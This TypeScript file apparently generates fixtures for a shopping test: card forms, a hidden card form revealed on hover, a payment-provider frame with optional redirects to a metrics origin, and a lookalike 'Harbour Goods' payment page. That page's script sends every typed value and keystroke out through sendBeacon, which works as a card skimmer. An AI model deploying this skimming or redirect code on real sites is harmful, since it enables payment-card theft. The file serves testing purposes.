import type { ShopCase } from './shop-case.ts';
import type { Tongue } from './words.ts';

/** The card form: in the shop's own page, in a provider's frame, and on pages that only look like the shop's. */

const field = (name: string, label: string, auto: string, length: number) =>
  `<label for="${name}">${label}</label><input id="${name}" name="${name}" inputmode="numeric" autocomplete="${auto}" maxlength="${length}">`;
const numberField = (say: Tongue['say']) => field('card_number', say.cardNumber, 'cc-number', 23);

export function cardFields(say: Tongue['say']): string {
  return `${numberField(say)}<label for="card_holder">${say.holder}</label><input id="card_holder" name="card_holder" autocomplete="cc-name">
${field('card_expiry', say.expiry, 'cc-exp', 7)}${field('card_cvc', say.cvc, 'cc-csc', 4)}`;
}

/** A card form that comes up when the order's button is reached; cut off, only its number is left. */
export function lateCardFields(say: Tongue['say'], shown: 'whole' | 'part'): string {
  return `<div id="late-card" style="display:none">${shown === 'whole' ? cardFields(say) : numberField(say)}</div>
<script>addEventListener('DOMContentLoaded', () => { for (const event of ['mouseover', 'focus'])
document.querySelector('#place').addEventListener(event, () => { document.querySelector('#late-card').style.display = 'block'; }); });</script>`;
}

/** The provider's frame keeps the card and gives the shop a token. */
export function providerFrame(say: Tongue['say'], shop: ShopCase): string {
  const { frameTurns, framePays } = shop.rules;
  const away = `location.href = '${shop.origin('metrics')}/form?focus=1'`;
  const turns = {
    focus: `document.querySelector('#card_number').addEventListener('focus', () => { ${away} });`,
    input: `document.querySelector('#card_number').addEventListener('input', (e) => { if (e.target.value.length > 1) ${away} });`,
    timer: `setTimeout(() => { ${away} }, 2500);`,
  };
  return `<!doctype html><meta charset="utf-8"><title>Card</title><style>body{font:16px sans-serif;margin:0}label{display:block;margin:6px 0 2px}input{font:inherit;padding:5px;width:260px}</style>
<form id="card">${cardFields(say)}${framePays ? '<p><button>Pay now</button></p>' : ''}</form><script>document.querySelector('#card').addEventListener('${framePays ? 'submit' : 'change'}', async (event) => {
event.preventDefault(); const body = new URLSearchParams(new FormData(event.currentTarget)); const answer = await fetch('/tokens', { method: 'POST', body });
parent.postMessage({ token: await answer.text() }, '*'); });${frameTurns ? turns[frameTurns] : ''}</script>`;
}

export function frameScript(shop: ShopCase): string {
  const origin = JSON.stringify(shop.origin(shop.rules.cardFrameHost));
  const { framePays } = shop.rules;
  // The shop's own button waits for the card; the frame goes when it has taken it.
  const waits = `addEventListener('DOMContentLoaded', () => { document.querySelector('#place').disabled = true; });`;
  const orders = `fetch('/order?' + new URLSearchParams(new FormData(document.querySelector('#checkout')))).then(() => {
document.querySelector('iframe').remove(); document.querySelector('#place').disabled = false; });`;
  return `<script>${framePays ? waits : ''} addEventListener('message', (event) => { if (event.origin !== ${origin}) return; document.querySelector('#card_token').value = event.data.token; ${framePays ? orders : ''} });</script>`;
}

/** What a host serves that has no business with the purchase: a payment page that asks for the card. */
export function strangersPage(say: Tongue['say']): string {
  return `<!doctype html><meta charset="utf-8"><title>Harbour Goods – ${say.payment}</title><style>label{display:block}input{width:260px}</style><header>Harbour Goods</header>
<h1>${say.payment}</h1><form method="post" action="/pay">${cardFields(say)}<p><button type="submit">${say.place}</button></p></form>
<script>if (location.search) document.querySelector('#card_number').focus();
addEventListener('input', (event) => navigator.sendBeacon('/typed?v=' + encodeURIComponent(event.target.value)), true);
addEventListener('keydown', (event) => navigator.sendBeacon('/key?k=' + encodeURIComponent(event.key)), true);</script>`;
}
